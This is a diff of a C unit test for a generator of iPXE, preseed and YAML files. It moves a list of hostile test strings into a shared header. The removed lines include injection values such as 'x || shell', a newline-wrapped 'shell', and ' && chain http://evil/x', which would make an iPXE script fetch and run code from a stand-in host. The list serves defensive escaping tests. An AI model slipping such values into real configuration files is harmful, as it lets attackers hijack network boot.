@@ -10,23 +10,10 @@
 #include "tap.h"
 
 /*
- * The hostile values of t/unit/value.c (a copy: that file keeps its
- * arrays to itself).  iPXE has no quoting, a preseed line ends at a
- * newline, YAML reads # : & * and quotes: each of these would change
- * what a file says.
+ * A preseed line ends at a newline, YAML reads # : & * and quotes: each
+ * hostile value would change what a file says.
  */
-static const char *const hostile_cores[] = {
-	" ", "\t", "\n", "\r", "\r\n", "\v", "\f", "\\", "${", "$", "{", "}",
-	"#", "&&", "||", "&", "|", ";", "\"", "'", "`", "<", ">", "(", ")",
-	"*", "?", "!", "[", "]", "^", "\x7f", "\x01", "\x1b[2J", "\xc3\xa9",
-	"\xef\xbb\xbf", "\xff", "${net0/mac}", "${x:hex}", "x || shell",
-	" && chain http://evil/x", "\nshell\n", "a\\", "#!ipxe", "\n:label",
-};
-
-static const char *const hostile_wrappers[][2] = {
-	{ "", "" }, { "a", "" }, { "", "a" }, { "a", "b" },
-	{ "http://se3/", "" }, { "iscsi:se3::::iqn.x", "" },
-};
+#include "hostile.h"
 
 /* What the module's options hold by default, and its builtin keys. */
 static size_t
